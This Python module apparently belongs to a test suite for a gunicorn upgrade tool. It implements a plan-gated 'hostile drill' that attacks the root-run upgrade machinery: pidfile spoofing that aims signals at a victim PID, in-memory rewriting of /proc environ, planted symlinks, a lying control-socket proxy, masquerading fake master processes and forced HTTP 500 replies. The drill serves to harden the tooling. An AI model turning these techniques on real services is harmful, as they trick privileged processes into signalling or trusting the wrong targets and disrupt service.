"""The hostile drill: app code that tries to steer the root-run operations from inside the master.

A release built with DEMO_BEHAVIOUR "hostile" (9.0.0+hostile in the test wheelhouse) imports this module.
It serves like any other release; what it attacks is chosen by a plan file that root writes and the
service user can only read (DEMO_HOSTILE_PLAN, default /etc/graceful-drill/hostile.json):

    {"attacks": ["pidfile", ...],   the attacks to try; none without the file
     "victim_pid": 1234,            a process of root's that must never be signalled
     "pidfile_target": "victim",    whose PID the pidfile attack writes: "victim" or "foreign"
     "lies": ["worker", "reexec"],  what control-socket adds to each status (default both)
     "decoy_link": "/etc/...",      a root-owned symlink outside the instance's tree
     "decoy_file": "/etc/...",      a root-owned file outside the instance's tree
     "pidfile": "/run/gunicorn-<instance>/master.pid",
     "control_socket": "/run/gunicorn-<instance>/gunicorn.ctl",
     "workers": 2}

Attacks, each switched on by its name in "attacks":

    pidfile         the pidfile names the victim (or a foreign master) instead of the master
    second-pidfile  during an upgrade, once the new master's workers are ready, <pidfile>.2 is made to
                    name the victim, the real new master is stopped and the next health checks fail
    environ         PWD (in os.environ and in the block /proc/PID/environ shows) names the decoy link,
                    and the master's working directory moves to a fake release it owns under /run
    symlinks        links planted in the runtime directory: a `current` and a finished marker that point
                    at the decoy file
    control-socket  the master's control socket is replaced by a proxy that adds lies to every status:
                    a failed re-exec whose PID is the victim's ("reexec"), the victim as a ready worker
                    ("worker")
    foreign-master  two processes outside the master's tree, named like the master: one titled
                    "gunicorn: master [...]", one with graceful-gunicorn and the instance's config in argv
    bake-fail       while a re-executed master serves alone (this master's workers drained), this master
                    answers every connection it can take on the shared listeners with HTTP 500

The attacks run in a thread of the master only: the app is preloaded, and forked workers do not inherit
threads. The thread reports what it armed in <runtime dir>/hostile.armed (JSON). Nothing here runs as
root: whatever it tries, it tries with the service user's rights, inside the service's sandbox.
"""

import contextlib
import ctypes
import json
import os
import select
import signal
import socket
import struct
import subprocess
import sys
import threading
import time

PLAN = os.environ.get("DEMO_HOSTILE_PLAN", "/etc/graceful-drill/hostile.json")
POLL = 0.05
# How long the new master's workers must have been ready before <pidfile>.2 is swapped: by then the
# upgrade has moved on to its health checks with both generations serving.
READY_GRACE = 0.4
FAILING_HEALTH_CHECKS = 2

# Started by foreign-master: reads nothing, does nothing, lives at most 15 minutes.
_IDLE_SCRIPT = b"import time\ntime.sleep(900)\n"
# Started through a short-lived launcher so that the foreign processes are reparented away from the master.
_LAUNCHER = """
import json, subprocess, sys
for item in json.loads(sys.argv[1]):
    p = subprocess.Popen(item["argv"], executable=item["exe"], cwd=item["cwd"], env=item["env"],
                         stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                         start_new_session=True)
    p.stdin.write(item["script"].encode())
    p.stdin.close()
    print(p.pid, flush=True)
"""
_FAKE_GUNICORN = "#!/bin/sh\n# a hostile release's entry point: nothing root should ever run\nexec sleep 600\n"

_state = {"armed": {}, "started": False}


def read_plan():
    try:
        with open(PLAN) as handle:
            plan = json.load(handle)
    except (OSError, ValueError):
        return {}
    return plan if isinstance(plan, dict) else {}


def _runtime_dir(plan):
    return os.path.dirname(plan.get("pidfile") or "/nonexistent/master.pid")


def _write_atomically(path, text):
    tmp = f"{path}.hostile-{os.getpid()}"
    with open(tmp, "w") as handle:
        handle.write(text)
    os.replace(tmp, path)


def _read_int(path):
    try:
        with open(path) as handle:
            text = handle.read().strip()
    except OSError:
        return None
    return int(text) if text.isdigit() else None


def _ppid(pid):
    try:
        with open(f"/proc/{pid}/stat") as handle:
            return int(handle.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return None


def _children(pid):
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and _ppid(int(entry)) == pid:
            found.append(int(entry))
    return found


def _control_path(control_socket, pid):
    directory, name = os.path.split(control_socket)
    stem, dot, suffix = name.rpartition(".")
    if not dot or not stem:
        return os.path.join(directory, f"{name}.{pid}")
    return os.path.join(directory, f"{stem}.{pid}.{suffix}")


def _recv_exactly(sock, size):
    data = b""
    while len(data) < size:
        chunk = sock.recv(size - len(data))
        if not chunk:
            raise OSError("connection closed")
        data += chunk
    return data


def _ask(path, payload, timeout=2.0):
    """One framed request to a control socket; the framed reply's payload."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(timeout)
        sock.connect(path)
        sock.sendall(struct.pack(">I", len(payload)) + payload)
        (length,) = struct.unpack(">I", _recv_exactly(sock, 4))
        return _recv_exactly(sock, length)


# ------------------------------------------------------------------------------------------ the attacks


def _attack_pidfile(plan):
    target = plan.get("victim_pid") if plan.get("pidfile_target", "victim") == "victim" else None
    if target is None:
        foreign = _state.get("foreign") or []
        target = foreign[0] if foreign else None
    if target and _read_int(plan["pidfile"]) != target:
        _write_atomically(plan["pidfile"], f"{target}\n")
    return target


def _attack_second_pidfile(plan):
    """Swap <pidfile>.2 to the victim once a real upgrade is past its new master's readiness."""
    me = os.getpid()
    second = plan["pidfile"] + ".2"
    new = _read_int(second)
    swap = _state.setdefault("swap", {})
    if not new or new == plan.get("victim_pid") or _ppid(new) != me or new in swap.get("done", ()):
        return "watching"
    try:
        reply = json.loads(
            _ask(_control_path(plan["control_socket"], new), b'{"id": 1, "command": "graceful status brief"}')
        )
        ready = [w for w in (reply.get("data") or {}).get("workers") or [] if w.get("state") == "ready"]
    except (OSError, ValueError, struct.error):
        ready = []
    if len(ready) < int(plan.get("workers") or 1):
        swap.pop(new, None)
        return "watching"
    since = swap.setdefault(new, time.monotonic())
    if time.monotonic() - since < READY_GRACE:
        return "watching"
    _write_atomically(second, f"{plan['victim_pid']}\n")
    _write_atomically(os.path.join(_runtime_dir(plan), "hostile.health-fail"), f"{FAILING_HEALTH_CHECKS}\n")
    with contextlib.suppress(OSError):
        os.kill(new, signal.SIGTERM)
    swap.setdefault("done", []).append(new)
    return f"swapped {new} for {plan['victim_pid']}"


def _fake_release(plan):
    release = os.path.join(_runtime_dir(plan), "releases", "evil")
    os.makedirs(os.path.join(release, "venv", "bin"), exist_ok=True)
    script = os.path.join(release, "venv", "bin", "graceful-gunicorn")
    if not os.path.exists(script):
        with open(script, "w") as handle:
            handle.write(_FAKE_GUNICORN)
        os.chmod(script, 0o755)
    return release


def _rewrite_environ_block(name, value):
    """Rewrite the environment block the kernel shows as /proc/PID/environ, in this process's memory."""
    with open("/proc/self/stat") as handle:
        fields = handle.read().rsplit(")", 1)[1].split()
    start, end = int(fields[47]), int(fields[48])  # env_start, env_end: fields 50 and 51
    with open("/proc/self/environ", "rb") as handle:
        items = [item for item in handle.read().split(b"\0") if item]
    key = name.encode() + b"="
    items = [item for item in items if not item.startswith(key)] + [key + value.encode()]
    while len(b"\0".join(items)) + 1 > end - start and len(items) > 1:
        items.remove(max(items[:-1], key=len))
    block = (b"\0".join(items) + b"\0").ljust(end - start, b"\0")
    ctypes.memmove(start, block, len(block))


def _attack_environ(plan):
    if _state.get("environ"):
        return _state["environ"]
    release = _fake_release(plan)
    os.environ["PWD"] = plan["decoy_link"]
    _rewrite_environ_block("PWD", plan["decoy_link"])
    os.chdir(release)
    _state["environ"] = f"PWD={plan['decoy_link']}, cwd {release}"
    return _state["environ"]


def _attack_symlinks(plan):
    planted = []
    release = _fake_release(plan)
    for link in (os.path.join(_runtime_dir(plan), "current"), os.path.join(release, ".graceful-finished")):
        if os.path.islink(link) and os.readlink(link) == plan["decoy_file"]:
            planted.append(link)
            continue
        with contextlib.suppress(FileNotFoundError):
            os.unlink(link)
        os.symlink(plan["decoy_file"], link)
        planted.append(link)
    return planted


def _lie(plan, reply):
    """A status reply with a failed re-exec naming the victim and the victim as a ready worker."""
    victim = plan.get("victim_pid")
    lies = plan.get("lies") or ["worker", "reexec"]
    data = reply.setdefault("data", {}) if reply.get("status") == "ok" else None
    if data is None:
        return reply
    master = data.setdefault("master", {})
    if isinstance(master, dict) and "reexec" in lies:
        master["last_upgrade"] = {"pid": victim, "outcome": "failed", "error": "re-exec failed", "at": time.time()}
        master["reexec_pid"] = victim
    workers = data.setdefault("workers", [])
    if isinstance(workers, list) and "worker" in lies:
        workers.append({"pid": victim, "state": "ready", "ready": True, "age": 600.0, "booted": True})
    return reply


def _serve_lies(listener, real, plan_holder):
    while True:
        try:
            client = listener.accept()[0]
        except OSError:
            return
        with client:
            client.settimeout(3.0)
            try:
                (length,) = struct.unpack(">I", _recv_exactly(client, 4))
                payload = _recv_exactly(client, min(length, 1 << 20))
                try:
                    reply = json.loads(_ask(real, payload, timeout=5.0))
                except (OSError, ValueError, struct.error):
                    reply = {"id": 1, "status": "ok", "data": {"master": {"pid": os.getpid()}, "workers": []}}
                if b"status" in payload:
                    reply = _lie(plan_holder["plan"], reply)
                out = json.dumps(reply).encode()
                client.sendall(struct.pack(">I", len(out)) + out)
            except (OSError, ValueError, struct.error):
                continue


def _attack_control_socket(plan):
    path = _control_path(plan["control_socket"], os.getpid())
    squat = _state.get("squat")
    if squat:
        squat["holder"]["plan"] = plan
        with contextlib.suppress(OSError):
            if os.stat(path).st_ino == squat["inode"]:
                return path
    real = os.path.join(os.path.dirname(path), f".real-control.{os.getpid()}.sock")
    if os.path.exists(path):
        os.replace(path, real)
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    staged = path + ".hostile"
    with contextlib.suppress(FileNotFoundError):
        os.unlink(staged)
    listener.bind(staged)
    listener.listen(16)
    os.replace(staged, path)
    holder = {"plan": plan}
    threading.Thread(target=_serve_lies, args=(listener, real, holder), daemon=True).start()
    _state["squat"] = {"inode": os.stat(path).st_ino, "holder": holder, "listener": listener}
    return path


def _attack_foreign_master(plan):
    if _state.get("foreign"):
        return _state["foreign"]
    with open("/proc/self/cmdline", "rb") as handle:
        argv = [part.decode() for part in handle.read().rstrip(b"\0").split(b"\0")]
    env = dict(os.environ, PWD=plan.get("decoy_link") or os.environ.get("PWD", "/"))
    cwd = _fake_release(plan)
    script = _IDLE_SCRIPT.decode()
    titled = {"exe": sys.executable, "argv": [f"gunicorn: master [{os.path.basename(_runtime_dir(plan))}]"]}
    # `python - ARGS` runs the script read from stdin: the command line reads as the master's own.
    mimic = {"exe": sys.executable, "argv": [argv[0], "-", *argv[1:]]}
    items = [dict(item, cwd=cwd, env=env, script=script) for item in (titled, mimic)]
    out = subprocess.run(
        [sys.executable, "-c", _LAUNCHER, json.dumps(items)],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        timeout=30,
        check=False,
    ).stdout
    _state["foreign"] = [int(line) for line in out.split() if line.isdigit()]
    return _state["foreign"]


def _listeners():
    """This master's listening TCP sockets, duplicated: the ones its workers (and a new master) accept on."""
    if "listeners" in _state:
        return _state["listeners"]
    found = []
    for entry in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            if not os.readlink(f"/proc/self/fd/{entry}").startswith("socket:"):
                continue
            sock = socket.socket(fileno=os.dup(int(entry)))
            if (
                sock.family in (socket.AF_INET, socket.AF_INET6)
                and sock.type == socket.SOCK_STREAM
                and sock.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
            ):
                found.append(sock)
            else:
                sock.close()
    _state["listeners"] = found
    return found


def _answer_500(listeners, seconds):
    body = b'{"status": "unhealthy", "from": "the old master"}'
    response = (
        b"HTTP/1.1 500 Internal Server Error\r\nContent-Type: application/json\r\nConnection: close\r\n"
        b"Content-Length: %d\r\n\r\n%s" % (len(body), body)
    )
    ready = select.select(listeners, [], [], seconds)[0]
    for listener in ready:
        try:
            client = listener.accept()[0]
        except OSError:
            continue
        with client, contextlib.suppress(OSError):
            client.settimeout(1.0)
            client.recv(65536)
            client.sendall(response)


def _attack_bake_fail(plan):
    me = os.getpid()
    new = _read_int(plan["pidfile"] + ".2")
    if not new or _ppid(new) != me:
        return "watching"
    if [child for child in _children(me) if child != new]:
        return "watching"
    listeners = _listeners()
    if listeners:
        _answer_500(listeners, POLL)
    return "answering 500"


ATTACKS = {
    "pidfile": _attack_pidfile,
    "second-pidfile": _attack_second_pidfile,
    "environ": _attack_environ,
    "symlinks": _attack_symlinks,
    "control-socket": _attack_control_socket,
    "foreign-master": _attack_foreign_master,
    "bake-fail": _attack_bake_fail,
}
# foreign-master first: the pidfile attack may name what it starts.
ORDER = ("foreign-master", "environ", "symlinks", "control-socket", "pidfile", "second-pidfile", "bake-fail")


def _loop():
    while True:
        plan = read_plan()
        wanted = [name for name in ORDER if name in (plan.get("attacks") or [])]
        armed = {}
        for name in wanted:
            try:
                armed[name] = ATTACKS[name](plan)
            except Exception as exc:
                armed[name] = f"error: {exc!r}"
        if plan and armed != _state["armed"]:
            _state["armed"] = armed
            with contextlib.suppress(OSError, KeyError):
                _write_atomically(
                    os.path.join(_runtime_dir(plan), "hostile.armed"),
                    json.dumps({"pid": os.getpid(), "armed": armed}, default=str),
                )
        if "bake-fail" not in wanted or armed.get("bake-fail") == "watching":
            time.sleep(POLL)


def arm():
    """Start the attack thread, in a master that serves (not in `gunicorn --check-config`, not as root)."""
    if _state["started"] or os.getuid() == 0 or "--check-config" in sys.argv:
        return
    if not any("gunicorn" in os.path.basename(arg) for arg in sys.argv[:1]):
        return
    _state["started"] = True
    threading.Thread(target=_loop, name="hostile-drill", daemon=True).start()


def health_fails():
    """In a worker: whether this /health must fail (a countdown second-pidfile set for the checks after a swap)."""
    plan = read_plan()
    if "second-pidfile" not in (plan.get("attacks") or []):
        return False
    path = os.path.join(_runtime_dir(plan), "hostile.health-fail")
    left = _read_int(path)
    if not left:
        return False
    with contextlib.suppress(OSError):
        if left <= 1:
            os.unlink(path)
        else:
            _write_atomically(path, f"{left - 1}\n")
    return True
